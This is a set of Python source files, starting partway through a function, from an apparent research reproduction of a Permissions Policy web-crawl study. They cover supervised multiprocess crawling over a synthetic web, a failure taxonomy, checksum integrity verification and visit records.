                 if store is not None else None)
        job = _ChunkJob(recipe=recipe, web_fp=web_fp, pool_fp=pool_fp,
                        ranks=ranks, chunk_index=chunk_index,
                        shard_path=shard, collect=collect,
                        trace=trace, count=count, chaos=chaos)
        chunk_index += 1
        try:
            future = executor.submit(_crawl_chunk, job)
        except BrokenProcessPool:
            # The pool broke while idle; keep the ranks and let the
            # recovery path rebuild before they are resubmitted.
            (probation if probe else requeued).appendleft(ranks)
            raise
        pending.add(future)
        if probe:
            probe_job = job
        if sup is not None:
            jobs[future] = job
            sup.note_submitted(job.chunk_index)

    def submit_next() -> bool:
        nonlocal next_target
        if requeued:
            submit_ranks(requeued.popleft())
            return True
        size = scheduler.next_size()
        if size <= 0:
            return False
        ranks = tuple(targets[next_target:next_target + size])
        next_target += size
        submit_ranks(ranks)
        return True

    def apply_plan(plan) -> None:
        nonlocal quarantined_count
        requeued.extend(plan.requeue)
        probation.extend(plan.probation)
        for rank, detail in plan.quarantine:
            logger.error("quarantining poison rank %d (%s)", rank, detail)
            if store is not None:
                store.quarantine_rank(rank, reason=POISON_VISIT,
                                      detail=detail)
            if telemetry is not None:
                telemetry.record_quarantined(rank, detail=detail)
            quarantined_count += 1
        if plan.quarantine and progress is not None:
            progress(completed + quarantined_count, total)

    def merge_sidecar(result: _ChunkResult) -> bool:
        """Fold the chunk sidecar in; ``False`` = chunk lost (requeued)."""
        from repro.crawler.pool import _delete_store_files
        from repro.crawler.storage import CrawlStore
        sidecar = Path(result.shard_path)
        attempts = sup.config.merge_attempts if sup is not None else 1
        failure: "sqlite3.OperationalError | None" = None
        for attempt in range(attempts):
            try:
                if chaos is not None:
                    chaos.before_merge(result.ranks)
                with CrawlStore(sidecar) as shard:
                    store.merge_from(shard)
                _delete_store_files(sidecar)
                return True
            except sqlite3.OperationalError as exc:
                failure = exc
                if attempt + 1 < attempts:
                    sup.note_merge_retry()
                    logger.warning(
                        "chunk %03d sidecar merge failed (attempt %d/%d), "
                        "retrying: %s", result.chunk_index, attempt + 1,
                        attempts, exc)
        _delete_store_files(sidecar)
        if sup is None:
            raise failure
        # The sidecar is gone but sites are pure (seed, rank) functions:
        # recrawl the chunk through the strike machinery (quarantines it
        # if the merge keeps dying on the same ranks).  No rebuild cost —
        # the worker pool is healthy.
        logger.error("chunk %03d merge failed after %d attempt(s); "
                     "requeueing ranks: %s", result.chunk_index, attempts,
                     failure)
        apply_plan(sup.on_merge_failure(result.ranks, detail=str(failure)))
        return False

    def ingest(result: _ChunkResult) -> None:
        nonlocal completed
        index = result.chunk_index
        scheduler.record(len(result.ranks), result.seconds)
        builds = web_builds_by_pid.get(result.worker_pid, 0)
        web_builds_by_pid[result.worker_pid] = max(builds, result.web_builds)
        if result.spans:
            TRACER.ingest(result.spans, pid=f"chunk-{index:03d}")
        if result.metrics is not None:
            _metrics.REGISTRY.merge(result.metrics)
        if result.shard_path is not None and store is not None:
            if not merge_sidecar(result):
                return  # requeued — nothing completed for this chunk yet
        if telemetry is not None:
            telemetry.record_chunk(result.telemetry,
                                   worker=f"chunk-{index:03d}")
        if result.visits_blob is not None and collect:
            visits.extend(pickle.loads(result.visits_blob))
        completed += len(result.ranks)
        if progress is not None:
            progress(completed + quarantined_count, total)

    def finish_probe(result: "_ChunkResult") -> None:
        """A probation chunk ran alone and came back: it is innocent."""
        nonlocal probe_job
        if probe_job is not None and result.chunk_index == probe_job.chunk_index:
            sup.exonerate(probe_job.ranks)
            probe_job = None

    def recover_from_crash(crashed: "list[Future]", *, cause: str,
                           suspects: "list[tuple[int, ...]] | None" = None,
                           ) -> None:
        """Supervised ``BrokenProcessPool`` handling: ingest what finished,
        sweep the wreckage, rebuild the pool, requeue the rest."""
        nonlocal executor, probe_job
        lost_jobs = [jobs.pop(f) for f in crashed if f in jobs]
        # Everything still outstanding is doomed (the executor is broken)
        # — but a chunk whose result landed just before the break is a
        # survivor, so harvest results one last time before requeueing.
        survivors: list[_ChunkResult] = []
        done, rest = wait(pending, timeout=0)
        for future in done:
            try:
                survivors.append(future.result())
                jobs.pop(future, None)
            except (Exception, CancelledError):
                job = jobs.pop(future, None)
                if job is not None:
                    lost_jobs.append(job)
        for future in rest:
            if not future.cancel() and future.done():
                with suppress(Exception, CancelledError):
                    survivors.append(future.result())
                    jobs.pop(future, None)
                    continue
            job = jobs.pop(future, None)
            if job is not None:
                lost_jobs.append(job)
        pending.clear()
        for result in survivors:
            sup.note_finished(result.chunk_index)
            finish_probe(result)
            ingest(result)
        # A probe that went down with the pool ran *alone* by
        # construction, so its guilt is proven — quarantine/bisect it
        # directly instead of striking possible bystanders.
        certain = False
        if probe_job is not None:
            if any(job.chunk_index == probe_job.chunk_index
                   for job in lost_jobs):
                certain = True
                suspects = [probe_job.ranks]
            probe_job = None
        with TRACER.span("supervisor.rebuild", cause=cause,
                         chunks_lost=len(lost_jobs)):
            # A broken pool can still hold live workers (e.g. one sleeping
            # in a hung visit while another died); executor teardown
            # *joins* them, so make sure they are dead first or the
            # rebuild would block until the hang ended of its own accord.
            _kill_executor_workers(executor)
            shutdown_warm_pool()
            if store is not None:
                # Crashed workers leave half-written sidecars; replays
                # write fresh ones, so sweep the wreckage now (not just at
                # the next run's start).
                _sweep_chunk_sidecars(store.path)
            for job in lost_jobs:
                sup.note_finished(job.chunk_index)
            lost = [job.ranks for job in lost_jobs]
            logger.error(
                "worker pool crash (%s): lost %d in-flight chunk(s), "
                "rebuild %d/%d", cause, len(lost), sup.rebuilds + 1,
                sup.config.max_pool_rebuilds)
            apply_plan(sup.on_pool_crash(lost, cause=cause,
                                         suspects=suspects,
                                         certain=certain))
            executor = warm_executor(pool.workers, start_method,
                                     initargs=(recipe_blob, web_fp, pool_fp))

    def check_watchdog() -> None:
        sizes = {jobs[f].chunk_index: len(jobs[f].ranks)
                 for f in pending if f in jobs}
        late = set(sup.overdue(sizes, scheduler.observed_rate()))
        if not late:
            return
        suspects = [jobs[f].ranks for f in pending
                    if f in jobs and jobs[f].chunk_index in late]
        logger.error(
            "watchdog: chunk(s) %s exceeded their deadline — killing "
            "workers to recycle the pool", sorted(late))
        _kill_executor_workers(executor)
        recover_from_crash([], cause="hang", suspects=suspects)

    def top_up(limit: int) -> None:
        while len(pending) < limit:
            if probe_job is not None:
                return  # isolation in progress: nothing else flies
            if probation:
                if pending:
                    return  # drain the pipeline before isolating
                try:
                    submit_ranks(probation.popleft(), probe=True)
                except BrokenProcessPool:
                    recover_from_crash([], cause="worker-crash")
                    continue
                return  # exactly one probe in flight
            try:
                if not submit_next():
                    return
            except BrokenProcessPool:
                if sup is None:
                    raise
                recover_from_crash([], cause="worker-crash")

    try:
        top_up(pool.workers)
        while pending or requeued or probation:
            if not pending:
                if stopped:
                    break  # interrupted: requeues stay uncrawled (resume)
                # Possible after a recovery whose requeues have not been
                # resubmitted yet (e.g. the budget-spending crash happened
                # during top-up).
                top_up(pool.workers + 1)
                if not pending:
                    break
            timeout = (sup.config.watchdog_poll_seconds
                       if sup is not None and sup.config.watchdog_enabled
                       else None)
            done, pending = wait(pending, timeout=timeout,
                                 return_when=FIRST_COMPLETED)
            crashed: list[Future] = []
            for future in done:
                try:
                    result = future.result()
                except BrokenProcessPool:
                    if sup is None:
                        raise
                    crashed.append(future)
                    continue
                if sup is not None:
                    jobs.pop(future, None)
                    sup.note_finished(result.chunk_index)
                    finish_probe(result)
                ingest(result)
            if crashed:
                recover_from_crash(crashed, cause="worker-crash")
            elif sup is not None and not done and pending:
                check_watchdog()
            if pool.stop_requested and not stopped:
                stopped = True
                requeued.clear()
                probation.clear()
                cancelled = {f for f in pending if f.cancel()}
                pending -= cancelled
                for future in cancelled:
                    jobs.pop(future, None)
                logger.warning(
                    "crawl stop requested: cancelled %d queued chunk(s), "
                    "draining %d running", len(cancelled), len(pending))
            if not stopped:
                top_up(pool.workers + 1)
    except BrokenProcessPool:
        # Unsupervised: a worker died hard (OOM kill, segfault); the
        # executor is unusable, so drop it — the next run builds a fresh
        # warm pool — and sweep the crashed workers' sidecar files rather
        # than leaking them until that run starts.
        shutdown_warm_pool()
        if store is not None:
            _sweep_chunk_sidecars(store.path)
        raise
    except PoolCrashError:
        pool.last_supervisor_stats = sup.stats()
        raise

    if sup is not None:
        pool.last_supervisor_stats = sup.stats()
        if store is not None and sup.rebuilds:
            # A worker surviving a torn-down pool can flush its sidecar
            # *after* the rebuild-time sweep; its chunk was requeued and
            # merged from a fresh sidecar, so the stray file is garbage.
            _sweep_chunk_sidecars(store.path)
    pool.last_chunk_schedule = {
        "mode": "replay" if pool.chunk_schedule else "adaptive",
        "target_chunk_seconds": TARGET_CHUNK_SECONDS,
        "initial_chunk_size": INITIAL_CHUNK_SIZE,
        "workers": pool.workers,
        "total_sites": total,
        "sizes": list(scheduler.sizes),
    }
    pool.last_run_stats = {
        "worker_pids": sorted(web_builds_by_pid),
        "web_builds_total": sum(web_builds_by_pid.values()),
        "chunks": chunk_index,
    }
    visits.sort(key=lambda visit: visit.rank)
    return visits
