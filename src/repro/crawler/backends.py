"""Process-based crawl backend: contiguous rank chunks in worker processes.

The paper ran 40 genuinely parallel crawlers; our crawl is pure-Python
CPU-bound work, so the thread backend gains nothing from extra workers (the
GIL serialises them).  This module delivers real parallelism: the rank list
is sharded into contiguous chunks and each chunk is crawled by a worker
*process* running an ordinary serial :class:`~repro.crawler.pool.CrawlerPool`.

Sites are pure functions of ``(seed, rank)``, so a worker needs only the
web's constructor parameters and its chunk of ranks — no dataset is pickled
into workers, and chunk results merge deterministically: serial, thread and
process runs produce byte-identical datasets.

Because closures don't pickle, per-visit fetcher construction crosses the
process boundary as a :class:`FetcherSpec` — a small picklable recipe the
worker evaluates against its own :class:`~repro.synthweb.generator.SyntheticWeb`.
Pools built with a custom ``fetcher_factory`` callable therefore cannot use
the process backend and get a clear error instead of a pickling traceback.
"""

from __future__ import annotations

import logging
import multiprocessing
import pickle
import signal
from concurrent.futures import ProcessPoolExecutor, as_completed
from dataclasses import dataclass
from typing import TYPE_CHECKING, Callable, Sequence

from repro.browser.page import Fetcher
from repro.crawler.crawler import CrawlConfig
from repro.crawler.fetcher import SyntheticFetcher
from repro.crawler.records import SiteVisit
from repro.crawler.resilience import FaultInjectingFetcher, RetryPolicy
from repro.obs import metrics as _metrics
from repro.obs.tracing import TRACER
from repro.policy.engine import PermissionsPolicyEngine
from repro.synthweb.generator import GeneratorRates, SyntheticWeb
from repro.synthweb.profiles import WidgetProfile

if TYPE_CHECKING:  # pragma: no cover - import cycle: pool imports backends
    from repro.crawler.pool import CrawlerPool
    from repro.crawler.storage import CrawlStore
    from repro.crawler.telemetry import CrawlTelemetry

logger = logging.getLogger(__name__)

#: Chunks per worker: more chunks than workers keeps all cores busy when
#: chunk durations vary, while chunks stay large enough to amortise the
#: per-chunk SyntheticWeb construction in the child.
CHUNKS_PER_WORKER = 4


class FetcherSpec:
    """Picklable recipe for building a per-visit fetcher in any process.

    Where :class:`~repro.crawler.pool.CrawlerPool` accepts an arbitrary
    ``fetcher_factory`` closure for in-process backends, the process
    backend needs something it can ship to workers; subclasses carry plain
    data and materialise the fetcher against the worker's own web.
    """

    def build(self, web: SyntheticWeb) -> Fetcher:
        raise NotImplementedError


@dataclass(frozen=True)
class SyntheticFetcherSpec(FetcherSpec):
    """The default fetcher: straight synthetic network, no faults."""

    def build(self, web: SyntheticWeb) -> Fetcher:
        return SyntheticFetcher(web)


@dataclass(frozen=True)
class FaultInjectionSpec(FetcherSpec):
    """Recipe for a :class:`~repro.crawler.resilience.FaultInjectingFetcher`
    wrapped around the synthetic network.  Faults are deterministic in
    (seed, url, attempt), so the same spec yields the same faults in any
    backend."""

    seed: int = 0
    failure_rate: float = 0.0
    crash_rate: float = 0.0
    latency_rate: float = 0.0
    latency_seconds: float = 5.0
    timeout_budget_seconds: float = 60.0
    failure_classes: tuple[str, ...] | None = None

    def build(self, web: SyntheticWeb) -> Fetcher:
        return FaultInjectingFetcher(
            SyntheticFetcher(web),
            seed=self.seed,
            failure_rate=self.failure_rate,
            crash_rate=self.crash_rate,
            latency_rate=self.latency_rate,
            latency_seconds=self.latency_seconds,
            timeout_budget_seconds=self.timeout_budget_seconds,
            failure_classes=self.failure_classes,
        )


def chunk_ranks(targets: Sequence[int], chunk_count: int) -> list[list[int]]:
    """Split ``targets`` into at most ``chunk_count`` contiguous,
    near-equal chunks, preserving order.  Contiguity keeps each worker's
    site cache warm on neighbouring ranks and makes kill-and-resume land
    on clean chunk boundaries."""
    if chunk_count < 1:
        raise ValueError("chunk_count must be >= 1")
    total = len(targets)
    count = min(chunk_count, total)
    if count == 0:
        return []
    base, extra = divmod(total, count)
    chunks: list[list[int]] = []
    start = 0
    for index in range(count):
        size = base + (1 if index < extra else 0)
        chunks.append(list(targets[start:start + size]))
        start += size
    return chunks


@dataclass(frozen=True)
class _ChunkJob:
    """Everything a worker process needs to crawl one chunk."""

    site_count: int
    seed: int
    rates: GeneratorRates
    profiles: tuple[WidgetProfile, ...]
    config: CrawlConfig
    engine: PermissionsPolicyEngine | None
    retry_policy: RetryPolicy | None
    fetcher_spec: FetcherSpec
    ranks: tuple[int, ...]
    #: Position of this chunk in the run (names the worker "process" in
    #: traces and telemetry).
    chunk_index: int = 0
    #: Whether the parent has tracing / metric collection on; the worker
    #: mirrors that state and ships the deltas back.
    trace: bool = False
    count: bool = False


@dataclass(frozen=True)
class _ChunkResult:
    """A crawled chunk plus the worker's observability deltas."""

    visits: list[SiteVisit]
    #: Exported span dicts (:meth:`repro.obs.tracing.Tracer.export_spans`),
    #: only when the job asked for tracing.
    spans: tuple[dict, ...] = ()
    #: Worker metrics snapshot (:meth:`~repro.obs.metrics.MetricsRegistry
    #: .snapshot`), only when the job asked for counting.
    metrics: dict | None = None


def _crawl_chunk(job: _ChunkJob) -> _ChunkResult:
    """Worker entry point: rebuild the web, crawl the chunk serially.

    Observability state is process-global, and with the fork start method
    (or a reused spawn worker) it carries over between chunks — so it is
    set up per job and torn back down in ``finally``.

    Workers shield themselves from SIGINT/SIGTERM: graceful shutdown is
    the *parent's* job (it stops handing out chunks and checkpoints what
    finished), and a signal delivered to the whole process group must not
    kill a chunk mid-crawl when the parent is about to wind down cleanly.
    """
    from repro.crawler.pool import CrawlerPool

    for signum in (signal.SIGINT, signal.SIGTERM):
        try:
            signal.signal(signum, signal.SIG_IGN)
        except (ValueError, OSError):  # pragma: no cover - non-main thread
            pass
    if job.trace:
        TRACER.clear()
        TRACER.enabled = True
    if job.count:
        _metrics.REGISTRY.reset()
        _metrics.enable_metrics()
    try:
        web = SyntheticWeb(job.site_count, seed=job.seed, rates=job.rates,
                           profiles=job.profiles)
        pool = CrawlerPool(web, workers=1, backend="serial",
                           config=job.config, engine=job.engine,
                           retry_policy=job.retry_policy,
                           fetcher_spec=job.fetcher_spec)
        with TRACER.span("crawl.chunk", chunk=job.chunk_index,
                         ranks=len(job.ranks)):
            visits = list(pool.run(job.ranks).visits)
        return _ChunkResult(
            visits=visits,
            spans=tuple(TRACER.export_spans()) if job.trace else (),
            metrics=_metrics.REGISTRY.snapshot() if job.count else None,
        )
    finally:
        if job.trace:
            TRACER.enabled = False
            TRACER.clear()
        if job.count:
            _metrics.disable_metrics()
            _metrics.REGISTRY.reset()


def _mp_context(name: str | None = None) -> multiprocessing.context.BaseContext:
    """Fork where available (cheap, shares the warmed interpreter), spawn
    otherwise (macOS/Windows)."""
    if name is None:
        name = ("fork" if "fork" in multiprocessing.get_all_start_methods()
                else "spawn")
    return multiprocessing.get_context(name)


def crawl_in_processes(pool: "CrawlerPool", targets: Sequence[int], *,
                       progress: Callable[[int, int], None] | None = None,
                       store: "CrawlStore | None" = None,
                       telemetry: "CrawlTelemetry | None" = None,
                       collect: bool = True,
                       ) -> list[SiteVisit]:
    """Crawl ``targets`` across worker processes; returns visits rank-sorted.

    The parent does all persistence and telemetry: each finished chunk is
    saved to ``store`` as a unit — one batched
    :meth:`~repro.crawler.storage.CrawlStore.save_visits` call, so
    checkpointing advances in chunk-sized steps without per-visit commit
    overhead — and fed to ``telemetry`` visit by visit, so observability
    never depends on worker scheduling and the dataset bytes match serial
    runs.  With ``collect=False`` chunk visits are dropped after
    persistence and an empty list is returned (bounded-memory mode).
    """
    if pool._custom_factory:
        raise ValueError(
            "the process backend cannot ship a fetcher_factory closure to "
            "worker processes; pass fetcher_spec= (a picklable FetcherSpec) "
            "instead")
    if not targets:
        return []
    web = pool.web
    chunks = chunk_ranks(targets, pool.workers * CHUNKS_PER_WORKER)
    trace = TRACER.enabled
    count = _metrics.COUNTING
    jobs = [_ChunkJob(site_count=web.site_count, seed=web.seed,
                      rates=web.rates, profiles=web.profiles,
                      config=pool.config, engine=pool._engine,
                      retry_policy=pool.retry_policy,
                      fetcher_spec=pool.fetcher_spec
                      if pool.fetcher_spec is not None
                      else SyntheticFetcherSpec(),
                      ranks=tuple(chunk), chunk_index=index,
                      trace=trace, count=count)
            for index, chunk in enumerate(chunks)]
    try:
        pickle.dumps(jobs[0])
    except Exception as exc:
        raise ValueError(
            f"crawl parameters are not picklable for the process backend: "
            f"{exc}") from exc

    visits: list[SiteVisit] = []
    completed = 0
    total = len(targets)
    workers = min(pool.workers, len(jobs))
    with ProcessPoolExecutor(max_workers=workers,
                             mp_context=_mp_context(pool.mp_context)
                             ) as executor:
        futures = {executor.submit(_crawl_chunk, job): index
                   for index, job in enumerate(jobs)}
        for future in as_completed(futures):
            if pool.stop_requested:
                # Queued chunks are abandoned (they resume from the
                # checkpoint later); running ones finish but their
                # results are not awaited.  Everything already saved
                # stays saved.
                cancelled = sum(1 for f in futures if f.cancel())
                logger.warning(
                    "crawl stop requested: cancelled %d queued chunks",
                    cancelled)
                break
            index = futures[future]
            result = future.result()
            chunk_visits = result.visits
            if result.spans:
                TRACER.ingest(result.spans, pid=f"chunk-{index:03d}")
            if result.metrics is not None:
                _metrics.REGISTRY.merge(result.metrics)
            if store is not None:
                store.save_visits(chunk_visits)
            if telemetry is not None:
                for visit in chunk_visits:
                    telemetry.record_visit(visit,
                                           worker=f"chunk-{index:03d}")
            if collect:
                visits.extend(chunk_visits)
            completed += len(chunk_visits)
            if progress is not None:
                progress(completed, total)
    visits.sort(key=lambda visit: visit.rank)
    return visits
