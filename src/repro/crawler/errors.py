"""Crawl-failure taxonomy.

Section 4 of the paper breaks the 182,200 unsuccessful visits down into:
ephemeral-content errors ("Execution context was destroyed"), page-load
timeouts, unreachable sites (DNS errors such as ERR_NAME_NOT_RESOLVED),
minor crawler errors, final-update timeouts, and post-hoc exclusions of
sites with incomplete iframe collection.  Each class has an exception type
here so the pool can reproduce the taxonomy table.
"""

from __future__ import annotations

from repro.browser.page import FetchFailure


class CrawlError(FetchFailure):
    """Base class; ``taxonomy`` keys the failure-summary table."""

    taxonomy = "unknown"


class EphemeralContentError(CrawlError):
    """Errors collecting ephemeral content, e.g. the execution context was
    destroyed mid-collection (60,183 sites in the paper)."""

    taxonomy = "ephemeral-content-error"


class LoadTimeoutError(CrawlError):
    """The load event did not fire within the 60 s budget (28,700 sites)."""

    taxonomy = "load-timeout"


class UnreachableError(CrawlError):
    """Major errors such as ERR_NAME_NOT_RESOLVED (27,733 sites)."""

    taxonomy = "unreachable"


class MinorCrawlerError(CrawlError):
    """Unexpected values from the automation library or crawler crashes
    (315 sites)."""

    taxonomy = "minor-crawler-error"


class FinalUpdateTimeoutError(CrawlError):
    """Timeout on the last data-collection update after the waiting time
    (90 sites)."""

    taxonomy = "final-update-timeout"


class IncompleteCollectionError(CrawlError):
    """Visit succeeded but iframe data was incomplete — the paper excludes
    these 65,169 sites to keep the analyzed data complete."""

    taxonomy = "excluded-incomplete"


#: Taxonomy string → exception type, for code that needs to (re)raise a
#: failure class by name: the fetcher's failure-mode mapping and the fault
#: injector both key off this registry.
EXCEPTION_BY_TAXONOMY: dict[str, type[CrawlError]] = {
    cls.taxonomy: cls
    for cls in (
        EphemeralContentError,
        LoadTimeoutError,
        UnreachableError,
        MinorCrawlerError,
        FinalUpdateTimeoutError,
        IncompleteCollectionError,
    )
}

#: Failure classes that a second visit can plausibly clear: flaky content
#: collection and timeouts.  ``unreachable`` (DNS-level death) and
#: ``minor-crawler-error`` (our own bugs) are not retried — re-resolving a
#: dead host or re-running crashed code wastes crawl budget.
TRANSIENT_TAXONOMIES: frozenset[str] = frozenset({
    EphemeralContentError.taxonomy,
    LoadTimeoutError.taxonomy,
    FinalUpdateTimeoutError.taxonomy,
})
