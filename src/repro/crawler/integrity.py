"""On-disk integrity: per-visit checksums, verification and quarantine.

Forensic crawl pipelines treat their own artifacts as untrusted — disks
corrupt, processes die mid-write, and a million-site run cannot afford to
discover that at analysis time.  This module gives
:class:`~repro.crawler.storage.CrawlStore` the same property:

* every visit saved carries a CRC-32 checksum over its canonical record
  encoding (``zlib.crc32``, the same salt-free digest
  :mod:`repro.browser.scripts` uses, so checksums are identical across
  processes and runs);
* :meth:`CrawlStore.verify() <repro.crawler.storage.CrawlStore.verify>`
  recomputes every checksum from the stored rows and reports rows that
  fail to decode or no longer match;
* with ``repair=True`` the corrupt rows move into a ``quarantine`` table
  — preserved for forensics, out of the analysed dataset — so
  ``load_dataset`` keeps working with counted warnings instead of
  crashing.

The canonical encoding is the JSONL export dict serialized with sorted
keys and no whitespace: it covers the visit row *and* all child rows
(frames, calls, scripts, prompts) in insertion order, so a bit flip in
any table, a truncated value, or a lost child row all surface as a
mismatch.
"""

from __future__ import annotations

import json
import zlib
from dataclasses import dataclass, field

from repro.crawler.records import SiteVisit

#: Stable ``reason`` tags for corrupt rows (reports aggregate on these).
CHECKSUM_MISMATCH = "checksum-mismatch"
DECODE_ERROR = "decode-error"
MISSING_CHECKSUM = "missing-checksum"


def canonical_visit_bytes(visit: SiteVisit) -> bytes:
    """The canonical byte encoding of one visit record.

    Sorted keys + compact separators + ASCII escapes make the encoding
    independent of dict ordering, locale and interpreter defaults; the
    child records ride along in insertion order, which the store restores
    via ``ORDER BY rowid``.
    """
    from repro.crawler.storage import _visit_to_dict
    return json.dumps(_visit_to_dict(visit), sort_keys=True,
                      separators=(",", ":"), ensure_ascii=True
                      ).encode("ascii")


def visit_checksum(visit: SiteVisit) -> int:
    """CRC-32 of the canonical encoding (unsigned, fits SQLite INTEGER)."""
    return zlib.crc32(canonical_visit_bytes(visit))


@dataclass(frozen=True)
class CorruptRow:
    """One visit the store could not verify."""

    rank: int
    reason: str
    detail: str = ""


@dataclass
class VerifyReport:
    """Result of one :meth:`CrawlStore.verify` pass.

    ``legacy_rows`` counts visits written before the checksum column
    existed (schema < 3): they cannot be verified but are not treated as
    corrupt — re-saving them (or re-crawling) upgrades them in place.
    """

    path: str
    total_rows: int = 0
    verified_rows: int = 0
    legacy_rows: int = 0
    corrupt: list[CorruptRow] = field(default_factory=list)
    quarantined: int = 0
    #: Rows already sitting in the quarantine table before this pass.
    previously_quarantined: int = 0

    @property
    def ok(self) -> bool:
        """Whether every checksummed row verified (legacy rows tolerated)."""
        return not self.corrupt

    def corrupt_by_reason(self) -> dict[str, int]:
        counts: dict[str, int] = {}
        for row in self.corrupt:
            counts[row.reason] = counts.get(row.reason, 0) + 1
        return counts

    def to_json(self) -> dict:
        """JSON-serializable form (the CI quarantine-report artifact)."""
        return {
            "path": self.path,
            "total_rows": self.total_rows,
            "verified_rows": self.verified_rows,
            "legacy_rows": self.legacy_rows,
            "corrupt_rows": len(self.corrupt),
            "corrupt_by_reason": self.corrupt_by_reason(),
            "quarantined": self.quarantined,
            "previously_quarantined": self.previously_quarantined,
            "ok": self.ok,
            "corrupt": [{"rank": row.rank, "reason": row.reason,
                         "detail": row.detail} for row in self.corrupt],
        }

    def render(self) -> str:
        """Human-readable report for ``repro verify-store``."""
        lines = [
            f"store       {self.path}",
            f"rows        {self.total_rows} total, "
            f"{self.verified_rows} verified, {self.legacy_rows} legacy "
            f"(no checksum)",
        ]
        if self.previously_quarantined:
            lines.append(f"quarantine  {self.previously_quarantined} rows "
                         f"already quarantined")
        if self.corrupt:
            reasons = ", ".join(f"{reason}={count}" for reason, count
                                in sorted(self.corrupt_by_reason().items()))
            lines.append(f"corrupt     {len(self.corrupt)} rows ({reasons})")
            for row in self.corrupt[:20]:
                lines.append(f"  rank {row.rank}: {row.reason}"
                             + (f" — {row.detail}" if row.detail else ""))
            if len(self.corrupt) > 20:
                lines.append(f"  ... and {len(self.corrupt) - 20} more")
            if self.quarantined:
                lines.append(f"repaired    {self.quarantined} rows moved "
                             f"to quarantine")
            else:
                lines.append("repaired    nothing (re-run with --repair to "
                             "quarantine)")
        else:
            lines.append("corrupt     0 rows — store verifies clean")
        return "\n".join(lines)
