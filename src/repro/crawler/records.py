"""Measurement records.

These are the rows the paper's pipeline stores in its database after each
site visit (Section 3.1): per-frame response headers and iframe attributes,
per-call invocation records with stack traces, and the script sources the
static analysis scans.  Everything downstream — usage, delegation, header
and over-permission analysis — consumes only these records, so a crawl can
be persisted, reloaded and re-analysed without the browser substrate.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Iterable

from repro.browser.api import ApiKind
from repro.browser.page import Page


@dataclass(frozen=True)
class FrameRecord:
    """One frame (top-level document or iframe) of a visit."""

    frame_id: int
    url: str
    origin: str
    site: str
    parent_id: int | None
    depth: int
    is_local: bool
    headers: dict[str, str]
    #: Attributes of the container <iframe> element (Section 3.1.2's list);
    #: ``None`` for top-level documents.
    iframe_attributes: dict[str, str] | None

    @property
    def is_top_level(self) -> bool:
        return self.parent_id is None

    @property
    def allow_attribute(self) -> str | None:
        if self.iframe_attributes is None:
            return None
        return self.iframe_attributes.get("allow")

    def header(self, name: str) -> str | None:
        return self.headers.get(name.lower())


@dataclass(frozen=True)
class CallRecord:
    """One recorded API invocation (Figure 1's ``save`` output)."""

    frame_id: int
    api: str
    kind: str                    # ApiKind value
    permissions: tuple[str, ...]
    args: tuple[str, ...]
    script_url: str | None       # None == inline/dynamic (first-party)
    allowed: bool

    @property
    def is_general(self) -> bool:
        return self.kind == ApiKind.GENERAL.value

    @property
    def is_status_check(self) -> bool:
        return self.kind == ApiKind.STATUS_CHECK.value

    @property
    def is_invoke(self) -> bool:
        return self.kind == ApiKind.INVOKE.value

    @property
    def uses_deprecated_feature_policy_api(self) -> bool:
        return "featurePolicy" in self.api


@dataclass(frozen=True)
class ScriptSourceRecord:
    """One script source collected for static analysis."""

    frame_id: int
    url: str | None
    source: str


@dataclass(frozen=True)
class PromptRecord:
    """One permission prompt the visit would have shown to a user.

    The crawler never answers prompts, but it records what fired: powerful
    permissions requested on page load without any gesture are the
    annoyance the prompt-UX literature the paper cites (Section 7) is
    about.
    """

    permission: str
    requesting_frame_id: int
    display_site: str
    text: str


@dataclass
class SiteVisit:
    """Everything one site visit produced (or the failure that ended it)."""

    rank: int
    requested_url: str
    final_url: str
    success: bool
    failure: str | None = None
    frames: list[FrameRecord] = field(default_factory=list)
    calls: list[CallRecord] = field(default_factory=list)
    scripts: list[ScriptSourceRecord] = field(default_factory=list)
    prompts: list[PromptRecord] = field(default_factory=list)
    top_level_document_count: int = 1
    skipped_lazy_iframes: int = 0
    iframe_load_failures: int = 0
    duration_seconds: float = 0.0
    #: Transient-failure retries performed before this final outcome.
    retries: int = 0
    #: Traceback text for unexpected (non-CrawlError) crashes — the paper's
    #: minor-crawler-error class; ``None`` for clean visits/failures.
    error_detail: str | None = None

    @property
    def top_frame(self) -> FrameRecord:
        for frame in self.frames:
            if frame.is_top_level:
                return frame
        raise ValueError("visit has no top-level frame")

    def frame_by_id(self, frame_id: int) -> FrameRecord:
        for frame in self.frames:
            if frame.frame_id == frame_id:
                return frame
        raise KeyError(frame_id)

    def embedded_frames(self) -> list[FrameRecord]:
        return [frame for frame in self.frames if not frame.is_top_level]

    def calls_in_frame(self, frame_id: int) -> list[CallRecord]:
        return [call for call in self.calls if call.frame_id == frame_id]


def visit_from_page(rank: int, requested_url: str, page: Page,
                    duration_seconds: float = 0.0) -> SiteVisit:
    """Convert a loaded :class:`~repro.browser.page.Page` into the stored
    record form."""
    visit = SiteVisit(
        rank=rank,
        requested_url=requested_url,
        final_url=page.url,
        success=True,
        top_level_document_count=page.top_level_document_count,
        skipped_lazy_iframes=page.skipped_lazy_iframes,
        iframe_load_failures=len(page.iframe_load_failures),
        duration_seconds=duration_seconds,
    )
    for document in page.frames:
        attrs = (document.container.attribute_dict()
                 if document.container is not None else None)
        visit.frames.append(FrameRecord(
            frame_id=document.frame_id,
            url=document.url,
            origin=document.origin.serialize(),
            site=document.site,
            parent_id=(document.parent.frame_id
                       if document.parent is not None else None),
            depth=document.depth,
            is_local=document.is_local_scheme,
            headers=dict(document.headers),
            iframe_attributes=attrs,
        ))
        for script in document.scripts:
            visit.scripts.append(ScriptSourceRecord(
                frame_id=document.frame_id, url=script.url,
                source=script.source))
    for prompt in page.prompts:
        visit.prompts.append(PromptRecord(
            permission=prompt.permission,
            requesting_frame_id=prompt.requesting_frame_id,
            display_site=prompt.display_site,
            text=prompt.text))
    for record in page.invocations:
        visit.calls.append(CallRecord(
            frame_id=record.frame_id,
            api=record.api,
            kind=record.kind.value,
            permissions=record.permissions,
            args=record.args,
            script_url=record.calling_script_url,
            allowed=record.allowed,
        ))
    return visit


def failed_visit(rank: int, url: str, taxonomy: str,
                 duration_seconds: float = 0.0,
                 error_detail: str | None = None) -> SiteVisit:
    return SiteVisit(rank=rank, requested_url=url, final_url=url,
                     success=False, failure=taxonomy,
                     duration_seconds=duration_seconds,
                     error_detail=error_detail)


def successful_visits(visits: Iterable[SiteVisit]) -> list[SiteVisit]:
    return [visit for visit in visits if visit.success]
