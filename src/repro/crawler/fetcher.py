"""URL resolution against the synthetic web.

